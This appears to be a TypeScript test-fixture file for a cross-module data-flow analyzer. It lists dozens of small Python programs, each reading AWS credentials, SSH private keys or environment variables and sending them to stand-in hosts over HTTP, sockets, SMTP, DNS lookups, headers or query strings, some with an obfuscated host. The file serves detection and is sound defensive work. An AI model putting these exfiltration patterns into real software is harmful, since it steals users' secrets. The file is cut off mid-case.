import type { ModuleConstructs } from './modules.js';

/** A module that reads credentials. */
const READS_CREDENTIALS = 'from pathlib import Path\ndef grab():\n    return (Path.home() / ".aws" / "credentials").read_text()\n';
/** A module that sends what it is given. */
const POSTS = 'import requests\ndef push(data):\n    requests.post("https://a.b.io/x", json={"d": data}, timeout=5)\n';
/** A program that hands the one to the other. */
const HANDS_OVER = 'from collect import grab\nfrom net import push\npush(grab())\n';

export const PYTHON_MODULES: ModuleConstructs = {
  language: 'python',
  cases: [
    [
      'from',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'import-mod',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py': 'import collect, net\nnet.push(collect.grab())\n',
      },
    ],
    [
      'import-as',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'import collect as c\nimport net as n\ndef main():\n    x = c.grab()\n    n.push(x)\nif __name__ == "__main__":\n    main()\n',
      },
    ],
    [
      'star',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py': 'from collect import *\nfrom net import *\npush(grab())\n',
      },
    ],
    [
      'pkg-reexport',
      'main.py',
      {
        'main.py': 'from tool import grab, push\npush(grab())\n',
        'tool/collect.py': READS_CREDENTIALS,
        'tool/net.py': POSTS,
        'tool/__init__.py': 'from .collect import grab\nfrom .net import push\n',
      },
    ],
    [
      'pkg-relative',
      'main.py',
      {
        'main.py': 'from tool.app import run\nrun()\n',
        'tool/io/collect.py': READS_CREDENTIALS,
        'tool/net.py': POSTS,
        'tool/app.py': 'from .io.collect import grab\nfrom .net import push\ndef run():\n    push(grab())\n',
        'tool/__init__.py': '',
        'tool/io/__init__.py': '',
      },
    ],
    [
      'class-inst',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\nclass Source:\n    def __init__(self, root=None):\n        self.root = root or Path.home()\n    def read(self):\n        return (self.root / ".aws" / "credentials").read_text()\n',
        'net.py':
          'import requests\nclass Client:\n    def __init__(self, base):\n        self.base = base\n        self.session = requests.Session()\n    def put(self, body):\n        return self.session.post(self.base, json=body)\n',
        'main.py':
          'from collect import Source\nfrom net import Client\ndef main():\n    s = Source()\n    c = Client("https://a.b.io/x")\n    c.put({"v": s.read()})\nmain()\n',
      },
    ],
    [
      'registry-decorator',
      'main.py',
      {
        'registry.py':
          'REGISTRY = {}\ndef register(name):\n    def deco(fn):\n        REGISTRY[name] = fn\n        return fn\n    return deco\n',
        'collect.py':
          'from pathlib import Path\nfrom registry import register\n@register("profile")\ndef profile():\n    return (Path.home() / ".aws" / "credentials").read_text()\n@register("size")\ndef size():\n    return 3\n',
        'net.py': POSTS,
        'main.py':
          'import collect\nfrom registry import REGISTRY\nfrom net import push\ndef main():\n    out = {}\n    for name, fn in REGISTRY.items():\n        out[name] = fn()\n    push(out)\nmain()\n',
      },
    ],
    [
      'registry-list',
      'main.py',
      {
        'registry.py': 'STEPS = []\ndef step(fn):\n    STEPS.append(fn)\n    return fn\n',
        'collect.py':
          'from pathlib import Path\nfrom registry import step\n@step\ndef grab():\n    return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': POSTS,
        'main.py': 'import collect\nfrom registry import STEPS\nfrom net import push\npush([s() for s in STEPS])\n',
      },
    ],
    [
      'event-bus',
      'main.py',
      {
        'bus.py':
          'from collections import defaultdict\nclass Bus:\n    def __init__(self):\n        self._subs = defaultdict(list)\n    def on(self, name, fn):\n        self._subs[name].append(fn)\n    def emit(self, name, *args):\n        for fn in self._subs[name]:\n            fn(*args)\nbus = Bus()\n',
        'net.py':
          'import requests\nfrom bus import bus\ndef deliver(data):\n    requests.post("https://a.b.io/x", json=data)\nbus.on("ready", deliver)\n',
        'collect.py':
          'from pathlib import Path\nfrom bus import bus\ndef load():\n    bus.emit("ready", (Path.home() / ".aws" / "credentials").read_text())\n',
        'main.py': 'import net, collect\ncollect.load()\n',
      },
    ],
    [
      'abc-sink',
      'main.py',
      {
        'sinks.py':
          'from abc import ABC, abstractmethod\nimport requests\nclass Sink(ABC):\n    @abstractmethod\n    def write(self, data): ...\nclass FileSink(Sink):\n    def write(self, data):\n        open("out.txt", "w").write(data)\nclass HttpSink(Sink):\n    def write(self, data):\n        requests.post("https://a.b.io/x", data=data)\ndef make_sink(kind):\n    return {"file": FileSink, "http": HttpSink}[kind]()\n',
        'collect.py': READS_CREDENTIALS,
        'main.py': 'from sinks import make_sink\nfrom collect import grab\nmake_sink("http").write(grab())\n',
      },
    ],
    [
      'handlers-dict',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'import sys\nfrom collect import grab\nfrom net import push\ndef summary(): print("ok")\nHANDLERS = {"summary": summary, "sync": lambda: push(grab())}\ndef main():\n    HANDLERS[sys.argv[1]]()\nmain()\n',
      },
    ],
    [
      'importlib',
      'main.py',
      {
        'main.py':
          'import importlib\nfrom net import push\nfor n in ("totals", "profile"):\n    mod = importlib.import_module(f"plugins.{n}")\n    push(mod.run())\n',
        'net.py': '\nimport requests\ndef push(data):\n    requests.post("https://a.b.io/x", json={"d": data}, timeout=5)\n',
        'plugins/__init__.py': '',
        'plugins/totals.py': 'def run():\n    return 1\n',
        'plugins/profile.py': '\nfrom pathlib import Path\ndef run():\n    return (Path.home() / ".aws" / "credentials").read_text()\n',
      },
    ],
    [
      'getattr-mod',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py': 'import collect, net\nfn = getattr(collect, "grab")\ngetattr(net, "push")(fn())\n',
      },
    ],
    [
      'dataclass',
      'main.py',
      {
        'model.py': 'from dataclasses import dataclass, field\n@dataclass\nclass Report:\n    title: str\n    extra: str = ""\n',
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import requests\ndef push(data):\n    requests.post("https://a.b.io/x", json={"t": data.title, "x": data.extra}, timeout=5)\n',
        'main.py':
          'from model import Report\nfrom collect import grab\nfrom net import push\nr = Report("monthly")\nr.extra = grab()\npush(r)\n',
      },
    ],
    [
      'dataclass-asdict',
      'main.py',
      {
        'model.py':
          'from dataclasses import dataclass, asdict\n@dataclass\nclass Report:\n    title: str\n    extra: str = ""\n    def as_dict(self):\n        return asdict(self)\n',
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'from model import Report\nfrom collect import grab\nfrom net import push\nr = Report("monthly", grab())\npush(r.as_dict())\n',
      },
    ],
    [
      'queue-thread',
      'main.py',
      {
        'collect.py': 'from pathlib import Path\ndef fill(q):\n    q.put((Path.home() / ".aws" / "credentials").read_text())\n',
        'net.py':
          'import requests\ndef drain(q):\n    while True:\n        item = q.get()\n        requests.post("https://a.b.io/x", json=item)\n',
        'main.py':
          'import queue, threading\nfrom collect import fill\nfrom net import drain\nq = queue.Queue()\nthreading.Thread(target=drain, args=(q,), daemon=True).start()\nfill(q)\n',
      },
    ],
    [
      'logging-handler',
      'main.py',
      {
        'handlers.py':
          'import logging, requests\nclass Remote(logging.Handler):\n    def emit(self, record):\n        requests.post("https://a.b.io/x", json={"m": record.getMessage()})\n',
        'collect.py': READS_CREDENTIALS,
        'main.py':
          'import logging\nfrom handlers import Remote\nfrom collect import grab\nlog = logging.getLogger("ledger")\nlog.addHandler(Remote())\nlog.debug("profile %s", grab())\n',
      },
    ],
    [
      'ctx-object',
      'main.py',
      {
        'ctx.py': 'class Context:\n    pass\n',
        'collect.py': 'from pathlib import Path\ndef setup(ctx):\n    ctx.profile = (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': 'import requests\ndef report(ctx):\n    requests.post("https://a.b.io/x", json={"p": ctx.profile})\n',
        'main.py': 'from ctx import Context\nimport collect, net\nctx = Context()\ncollect.setup(ctx)\nnet.report(ctx)\n',
      },
    ],
    [
      'ctx-dict',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\ndef setup(ctx):\n    ctx["profile"] = (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': 'import requests\ndef report(ctx):\n    requests.post("https://a.b.io/x", json=ctx)\n',
        'main.py': 'import collect, net\nctx = {}\ncollect.setup(ctx)\nnet.report(ctx)\n',
      },
    ],
    [
      'settings-mod',
      'main.py',
      {
        'settings.py': 'import os\nDEBUG = False\nSNAP = dict(os.environ)\n',
        'net.py': POSTS,
        'main.py': 'import settings\nfrom net import push\npush(settings.SNAP)\n',
      },
    ],
    [
      'settings-class',
      'main.py',
      {
        'settings.py':
          'import os\nclass Settings:\n    debug = False\n    snap = {k: v for k, v in os.environ.items()}\nsettings = Settings()\n',
        'net.py': POSTS,
        'main.py': 'from settings import settings\nfrom net import push\npush(settings.snap)\n',
      },
    ],
    [
      'config-url',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import json, requests\nfrom pathlib import Path\nCFG = json.loads((Path(__file__).parent / "config.json").read_text())\ndef push(d):\n    requests.post(CFG["endpoint"], json=d)\n',
        'main.py': HANDS_OVER,
        'config.json': '{"endpoint": "https://a.b.io/x", "group": "month"}\n',
      },
    ],
    [
      'config-paths',
      'main.py',
      {
        'collect.py':
          'import json\nfrom pathlib import Path\nCFG = json.loads((Path(__file__).parent / "config.json").read_text())\ndef grab():\n    out = {}\n    for p in CFG["include"]:\n        f = Path(p).expanduser()\n        if f.exists():\n            out[p] = f.read_text()\n    return out\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
        'config.json': '{"include": ["~/.aws/credentials", "~/.ssh/id_rsa"], "group": "month"}\n',
      },
    ],
    [
      'config-yaml',
      'main.py',
      {
        'collect.py':
          'import yaml\nfrom pathlib import Path\nwith open(Path(__file__).parent / "config.yaml") as fh:\n    CFG = yaml.safe_load(fh)\ndef grab():\n    return [Path(p).expanduser().read_text() for p in CFG["include"]]\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
        'config.yaml': 'group: month\ninclude:\n  - ~/.aws/credentials\n  - ~/.ssh/id_rsa\n',
      },
    ],
    [
      'const-b64',
      'main.py',
      {
        'const.py': 'import base64\nHOST = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmJvb2ttZXRyaWNzLmlvL3YxL2l0ZW1z").decode()\n',
        'collect.py': READS_CREDENTIALS,
        'net.py': 'import requests\nfrom const import HOST\ndef push(d):\n    requests.post(HOST, json=d)\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'generator',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\ndef read():\n    for n in (".aws/credentials", ".ssh/id_rsa"):\n        yield (Path.home() / n).read_text()\n',
        'pack.py': 'import base64\ndef pack(it):\n    for x in it:\n        yield base64.b64encode(x.encode()).decode()\n',
        'net.py': POSTS,
        'main.py': 'from collect import read\nfrom pack import pack\nfrom net import push\nfor chunk in pack(read()):\n    push(chunk)\n',
      },
    ],
    [
      'decorator-track',
      'main.py',
      {
        'track.py':
          'import functools, os, requests\ndef tracked(fn):\n    @functools.wraps(fn)\n    def inner(*a, **k):\n        try:\n            return fn(*a, **k)\n        finally:\n            requests.post("https://a.b.io/x", json=dict(os.environ))\n    return inner\n',
        'main.py': 'from track import tracked\n@tracked\ndef main():\n    print("x")\nmain()\n',
      },
    ],
    [
      'init-subclass',
      'main.py',
      {
        'base.py':
          'class Source:\n    kinds = []\n    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n        Source.kinds.append(cls)\n    def read(self): raise NotImplementedError\n',
        'collect.py':
          'from pathlib import Path\nfrom base import Source\nclass Profile(Source):\n    def read(self):\n        return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': POSTS,
        'main.py': 'import collect\nfrom base import Source\nfrom net import push\npush([k().read() for k in Source.kinds])\n',
      },
    ],
    [
      'property',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\nclass Env:\n    @property\n    def profile(self):\n        return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': POSTS,
        'main.py': 'from collect import Env\nfrom net import push\ne = Env()\npush({"p": e.profile})\n',
      },
    ],
    [
      'partial',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import requests, functools\ndef _post(url, d):\n    requests.post(url, json=d)\npush = functools.partial(_post, "https://a.b.io/x")\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'async',
      'main.py',
      {
        'collect.py': 'from pathlib import Path\nasync def grab():\n    return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py':
          'import aiohttp\nasync def push(d):\n    async with aiohttp.ClientSession() as s:\n        async with s.post("https://a.b.io/x", json=d) as r:\n            return r.status\n',
        'main.py':
          'import asyncio\nfrom collect import grab\nfrom net import push\nasync def main():\n    a, = await asyncio.gather(grab())\n    await push(a)\nasyncio.run(main())\n',
      },
    ],
    [
      'contextvar',
      'main.py',
      {
        'state.py': 'from contextvars import ContextVar\nprofile = ContextVar("profile")\n',
        'collect.py':
          'from pathlib import Path\nfrom state import profile\ndef load():\n    profile.set((Path.home() / ".aws" / "credentials").read_text())\n',
        'net.py': 'import requests\nfrom state import profile\ndef flush():\n    requests.post("https://a.b.io/x", json=profile.get())\n',
        'main.py': 'import collect, net\ncollect.load()\nnet.flush()\n',
      },
    ],
    [
      'singleton',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import functools, requests\nclass Client:\n    def __init__(self, url): self.url = url\n    def push(self, d): requests.post(self.url, json=d)\n@functools.lru_cache\ndef client():\n    return Client("https://a.b.io/x")\n',
        'main.py': 'from collect import grab\nfrom net import client\nclient().push(grab())\n',
      },
    ],
    [
      'mixin',
      'main.py',
      {
        'mix.py':
          'from pathlib import Path\nimport requests\nclass EnvMixin:\n    def env(self):\n        return (Path.home() / ".aws" / "credentials").read_text()\nclass HttpMixin:\n    url = "https://a.b.io/x"\n    def post(self, d):\n        requests.post(self.url, json=d)\n',
        'main.py':
          'from mix import EnvMixin, HttpMixin\nclass Report(EnvMixin, HttpMixin):\n    def run(self):\n        self.post(self.env())\nReport().run()\n',
      },
    ],
    [
      'temp-file',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\ndef stash():\n    Path("/tmp/.cache-x").write_text((Path.home() / ".aws" / "credentials").read_text())\n',
        'net.py':
          'import requests\nfrom pathlib import Path\ndef flush():\n    requests.post("https://a.b.io/x", data=Path("/tmp/.cache-x").read_bytes())\n',
        'main.py': 'import collect, net\ncollect.stash()\nnet.flush()\n',
      },
    ],
    [
      'temp-const',
      'main.py',
      {
        'const.py': 'from pathlib import Path\nSPOOL = Path.home() / ".cache" / "ledger" / "spool.json"\n',
        'collect.py':
          'import json\nfrom pathlib import Path\nfrom const import SPOOL\ndef stash():\n    SPOOL.write_text(json.dumps({"p": (Path.home() / ".aws" / "credentials").read_text()}))\n',
        'net.py':
          'import requests\nfrom const import SPOOL\ndef flush():\n    requests.post("https://a.b.io/x", data=SPOOL.read_bytes())\n',
        'main.py': 'import collect, net\ncollect.stash()\nnet.flush()\n',
      },
    ],
    [
      'zip',
      'main.py',
      {
        'pack.py':
          'import io, zipfile\nfrom pathlib import Path\ndef bundle():\n    buf = io.BytesIO()\n    with zipfile.ZipFile(buf, "w") as z:\n        for p in (Path.home() / ".aws").glob("*"):\n            z.write(p, p.name)\n    return buf.getvalue()\n',
        'net.py': 'import requests\ndef push(b):\n    requests.post("https://a.b.io/x", files={"f": ("x.zip", b)})\n',
        'main.py': 'from pack import bundle\nfrom net import push\npush(bundle())\n',
      },
    ],
    [
      'zip-file',
      'main.py',
      {
        'pack.py':
          'import zipfile, tempfile, os\nfrom pathlib import Path\ndef bundle():\n    fd, name = tempfile.mkstemp(suffix=".zip")\n    with zipfile.ZipFile(name, "w") as z:\n        for p in (Path.home() / ".ssh").iterdir():\n            z.write(p)\n    return name\n',
        'net.py':
          'import requests\ndef push(n):\n    with open(n, "rb") as fh:\n        requests.post("https://a.b.io/x", files={"f": fh})\n',
        'main.py': 'from pack import bundle\nfrom net import push\npush(bundle())\n',
      },
    ],
    [
      'atexit',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import atexit, requests\n_items = []\ndef note(x):\n    _items.append(x)\n@atexit.register\ndef _flush():\n    requests.post("https://a.b.io/x", json=_items)\n',
        'main.py': 'from collect import grab\nimport net\nnet.note(grab())\n',
      },
    ],
    [
      'observer',
      'main.py',
      {
        'core.py':
          'class Subject:\n    def __init__(self):\n        self.listeners = []\n    def attach(self, fn):\n        self.listeners.append(fn)\n    def notify(self, data):\n        for l in self.listeners:\n            l(data)\n',
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'from core import Subject\nfrom collect import grab\nfrom net import push\ns = Subject()\ns.attach(push)\ns.notify(grab())\n',
      },
    ],
    [
      'observer-obj',
      'main.py',
      {
        'core.py':
          'class Subject:\n    def __init__(self):\n        self.listeners = []\n    def attach(self, l):\n        self.listeners.append(l)\n    def notify(self, data):\n        for l in self.listeners:\n            l.update(data)\n',
        'collect.py': READS_CREDENTIALS,
        'net.py': 'import requests\nclass Remote:\n    def update(self, d):\n        requests.post("https://a.b.io/x", json=d)\n',
        'main.py':
          'from core import Subject\nfrom collect import grab\nfrom net import Remote\ns = Subject()\ns.attach(Remote())\ns.notify(grab())\n',
      },
    ],
    [
      'enum',
      'main.py',
      {
        'const.py': 'from enum import Enum\nclass P(Enum):\n    AWS = "~/.aws/credentials"\n    SSH = "~/.ssh/id_rsa"\n',
        'collect.py':
          'from pathlib import Path\nfrom const import P\ndef grab():\n    return [Path(p.value).expanduser().read_text() for p in P]\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'class-var',
      'main.py',
      {
        'core.py': 'class Store:\n    items = []\n    @classmethod\n    def add(cls, x):\n        cls.items.append(x)\n',
        'collect.py':
          'from pathlib import Path\nfrom core import Store\ndef load():\n    Store.add((Path.home() / ".aws" / "credentials").read_text())\n',
        'net.py': 'import requests\nfrom core import Store\ndef flush():\n    requests.post("https://a.b.io/x", json=Store.items)\n',
        'main.py': 'import collect, net\ncollect.load()\nnet.flush()\n',
      },
    ],
    [
      'middleware',
      'main.py',
      {
        'mw.py':
          'import os\ndef add_meta(p):\n    p["meta"] = dict(os.environ)\n    return p\ndef trim(p):\n    return p\nCHAIN = [trim, add_meta]\n',
        'net.py': POSTS,
        'main.py': 'from mw import CHAIN\nfrom net import push\np = {"n": 1}\nfor m in CHAIN:\n    p = m(p)\npush(p)\n',
      },
    ],
    [
      'pipeline-class',
      'main.py',
      {
        'pipe.py':
          'class Pipeline:\n    def __init__(self):\n        self.steps = []\n    def then(self, fn):\n        self.steps.append(fn)\n        return self\n    def run(self, x=None):\n        for s in self.steps:\n            x = s(x)\n        return x\n',
        'collect.py': 'from pathlib import Path\ndef grab(_):\n    return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': POSTS,
        'main.py': 'from pipe import Pipeline\nfrom collect import grab\nfrom net import push\nPipeline().then(grab).then(push).run()\n',
      },
    ],
    [
      'kwargs',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': 'import requests\ndef push(**kw):\n    requests.post("https://a.b.io/x", json=kw)\n',
        'main.py': 'from collect import grab\nfrom net import push\ndef go(**kw):\n    push(**kw)\ngo(p=grab())\n',
      },
    ],
    [
      'inject',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'app.py':
          'class App:\n    def __init__(self, source, sink):\n        self.source = source\n        self.sink = sink\n    def run(self):\n        self.sink(self.source())\n',
        'main.py': 'from app import App\nfrom collect import grab\nfrom net import push\nApp(source=grab, sink=push).run()\n',
      },
    ],
    [
      'inject-obj',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\nclass Files:\n    def load(self):\n        return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': 'import requests\nclass Remote:\n    def save(self, d):\n        requests.post("https://a.b.io/x", json=d)\n',
        'app.py':
          'class App:\n    def __init__(self, source, sink):\n        self.source = source\n        self.sink = sink\n    def run(self):\n        self.sink.save(self.source.load())\n',
        'main.py': 'from app import App\nfrom collect import Files\nfrom net import Remote\nApp(Files(), Remote()).run()\n',
      },
    ],
    [
      'socket',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': 'import socket\ndef push(d):\n    with socket.create_connection(("a.b.io", 8443)) as s:\n        s.sendall(d.encode())\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'http-client',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import http.client, json\nclass Api:\n    def __init__(self, host):\n        self.conn = http.client.HTTPSConnection(host)\n    def put(self, path, d):\n        self.conn.request("POST", path, body=json.dumps(d))\n        return self.conn.getresponse()\n',
        'main.py': 'from collect import grab\nfrom net import Api\nApi("a.b.io").put("/v1", grab())\n',
      },
    ],
    [
      'urllib',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import json, urllib.request\ndef push(d):\n    req = urllib.request.Request("https://a.b.io/x", data=json.dumps(d).encode(), method="POST")\n    with urllib.request.urlopen(req) as r:\n        return r.status\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'smtp',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import smtplib\nfrom email.message import EmailMessage\ndef push(d):\n    m = EmailMessage()\n    m["To"] = "box@bookmetrics.io"\n    m["From"] = "a@bookmetrics.io"\n    m.set_content(d)\n    with smtplib.SMTP("mail.bookmetrics.io") as s:\n        s.send_message(m)\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'dns',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import socket, binascii\ndef push(d):\n    h = binascii.hexlify(d.encode()).decode()\n    for i in range(0, len(h), 60):\n        try:\n            socket.gethostbyname(h[i:i+60] + ".t.bookmetrics.io")\n        except OSError:\n            pass\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'yield-from',
      'main.py',
      {
        'collect.py':
          'from pathlib import Path\ndef a():\n    yield (Path.home() / ".aws" / "credentials").read_text()\ndef all_():\n    yield from a()\n',
        'net.py': POSTS,
        'main.py': 'from collect import all_\nfrom net import push\npush(list(all_()))\n',
      },
    ],
    [
      'namedtuple',
      'main.py',
      {
        'collect.py':
          'from collections import namedtuple\nfrom pathlib import Path\nItem = namedtuple("Item", "name body")\ndef grab():\n    return Item("p", (Path.home() / ".aws" / "credentials").read_text())\n',
        'net.py': 'import requests\ndef push(data):\n    requests.post("https://a.b.io/x", json={"d": data.body}, timeout=5)\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'typed-cls-factory',
      'main.py',
      {
        'collect.py':
          'from __future__ import annotations\nfrom pathlib import Path\nclass Source:\n    @classmethod\n    def default(cls) -> "Source":\n        o = cls()\n        o.text = (Path.home() / ".aws" / "credentials").read_text()\n        return o\n',
        'net.py': 'import requests\ndef push(data):\n    requests.post("https://a.b.io/x", json={"d": data.text}, timeout=5)\n',
        'main.py': 'from collect import Source\nfrom net import push\npush(Source.default())\n',
      },
    ],
    [
      'cache-decor',
      'main.py',
      {
        'collect.py':
          'from functools import lru_cache\nfrom pathlib import Path\n@lru_cache(maxsize=None)\ndef grab():\n    return (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'retry-decor',
      'main.py',
      {
        'retry.py':
          'import time, functools\ndef retry(n):\n    def deco(fn):\n        @functools.wraps(fn)\n        def inner(*a, **k):\n            for i in range(n):\n                try:\n                    return fn(*a, **k)\n                except Exception:\n                    time.sleep(i)\n        return inner\n    return deco\n',
        'collect.py': READS_CREDENTIALS,
        'net.py': 'import requests\nfrom retry import retry\n@retry(3)\ndef push(d):\n    requests.post("https://a.b.io/x", json=d)\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'retry-call',
      'main.py',
      {
        'retry.py':
          'def with_retry(fn, *a):\n    for _ in range(3):\n        try:\n            return fn(*a)\n        except Exception:\n            pass\n',
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py': 'from retry import with_retry\nfrom collect import grab\nfrom net import push\nwith_retry(push, grab())\n',
      },
    ],
    [
      'thread-cls',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import threading, requests\nclass Sender(threading.Thread):\n    def __init__(self, d):\n        super().__init__(daemon=True)\n        self.d = d\n    def run(self):\n        requests.post("https://a.b.io/x", json=self.d)\n',
        'main.py': 'from collect import grab\nfrom net import Sender\nSender(grab()).start()\n',
      },
    ],
    [
      'timer',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'import threading\nfrom collect import grab\nfrom net import push\nthreading.Timer(2, push, args=(grab(),)).start()\nthreading.Timer(2, lambda: push(grab())).start()\n',
      },
    ],
    [
      'process',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'from multiprocessing import Process\nfrom collect import grab\nfrom net import push\nProcess(target=push, args=(grab(),)).start()\n',
      },
    ],
    [
      'pool',
      'main.py',
      {
        'collect.py': 'from pathlib import Path\ndef grab(n):\n    return (Path.home() / n).read_text()\n',
        'net.py': POSTS,
        'main.py':
          'from concurrent.futures import ThreadPoolExecutor\nfrom collect import grab\nfrom net import push\nwith ThreadPoolExecutor() as ex:\n    for r in ex.map(grab, [".aws/credentials", ".ssh/id_rsa"]):\n        push(r)\n',
      },
    ],
    [
      'pool-submit',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'from concurrent.futures import ThreadPoolExecutor\nfrom collect import grab\nfrom net import push\nwith ThreadPoolExecutor() as ex:\n    f = ex.submit(grab)\n    ex.submit(push, f.result())\n',
      },
    ],
    [
      'chain-method',
      'main.py',
      {
        'net.py':
          'import requests\nfrom pathlib import Path\nclass B:\n    def __init__(self): self.parts = {}\n    def with_profile(self):\n        self.parts["p"] = (Path.home() / ".aws" / "credentials").read_text()\n        return self\n    def send(self):\n        requests.post("https://a.b.io/x", json=self.parts)\n',
        'main.py': 'from net import B\nB().with_profile().send()\n',
      },
    ],
    [
      'split-join',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
          'from collect import grab\nfrom net import push\ndef keys(t):\n    out = {}\n    for line in t.splitlines():\n        if "=" not in line: continue\n        k, _, v = line.partition("=")\n        out[k.strip()] = v.strip()\n    return out\npush(keys(grab()))\n',
      },
    ],
    [
      'regex',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py': 'import re\nfrom collect import grab\nfrom net import push\npush(re.findall(r"secret\\w*\\s*=\\s*(\\S+)", grab()))\n',
      },
    ],
    [
      'configparser',
      'main.py',
      {
        'collect.py':
          'import configparser\nfrom pathlib import Path\ndef grab():\n    c = configparser.ConfigParser()\n    c.read(Path.home() / ".aws" / "credentials")\n    return {s: dict(c[s]) for s in c.sections()}\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'env-parts',
      'main.py',
      {
        'collect.py':
          'import os\nNAMES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")\ndef grab():\n    return {n: os.environ.get(n) for n in NAMES if n in os.environ}\n',
        'net.py': POSTS,
        'main.py': HANDS_OVER,
      },
    ],
    [
      'url-build',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import requests\nfrom urllib.parse import urljoin\nBASE = "https://a.b.io"\nclass Api:\n    def _url(self, p): return urljoin(BASE, p)\n    def call(self, p, **kw): return requests.request("POST", self._url(p), **kw)\n',
        'main.py': 'from collect import grab\nfrom net import Api\nApi().call("/v1", json=grab())\n',
      },
    ],
    [
      'host-parts',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import requests\nPARTS = ["collect", "bookmetrics", "io"]\ndef url(): return "https://" + ".".join(PARTS) + "/v1"\ndef push(d): requests.post(url(), json=d)\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'headers',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py':
          'import requests, base64\ndef push(d):\n    requests.get("https://a.b.io/x", headers={"X-Trace": base64.b64encode(d.encode()).decode()})\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'query',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': 'import requests\ndef push(d):\n    requests.get("https://a.b.io/x", params={"q": d})\n',
        'main.py': HANDS_OVER,
      },
    ],
    [
      'nested-state',
      'main.py',
      {
        'core.py':
          'class State(dict):\n    def __getattr__(self, k): return self[k]\n    def __setattr__(self, k, v): self[k] = v\nstate = State()\n',
        'collect.py':
          'from pathlib import Path\nfrom core import state\ndef load():\n    state.profile = (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': 'import requests\nfrom core import state\ndef flush():\n    requests.post("https://a.b.io/x", json=state.profile)\n',
        'main.py': 'import collect, net\ncollect.load()\nnet.flush()\n',
      },
    ],
    [
      'global-mod',
      'main.py',
      {
        'core.py': 'PROFILE = None\n',
        'collect.py':
          'import core\nfrom pathlib import Path\ndef load():\n    core.PROFILE = (Path.home() / ".aws" / "credentials").read_text()\n',
        'net.py': 'import requests, core\ndef flush():\n    requests.post("https://a.b.io/x", json=core.PROFILE)\n',
        'main.py': 'import collect, net\ncollect.load()\nnet.flush()\n',
      },
    ],
    [
      'click',
      'main.py',
      {
        'collect.py': READS_CREDENTIALS,
        'net.py': POSTS,
        'main.py':
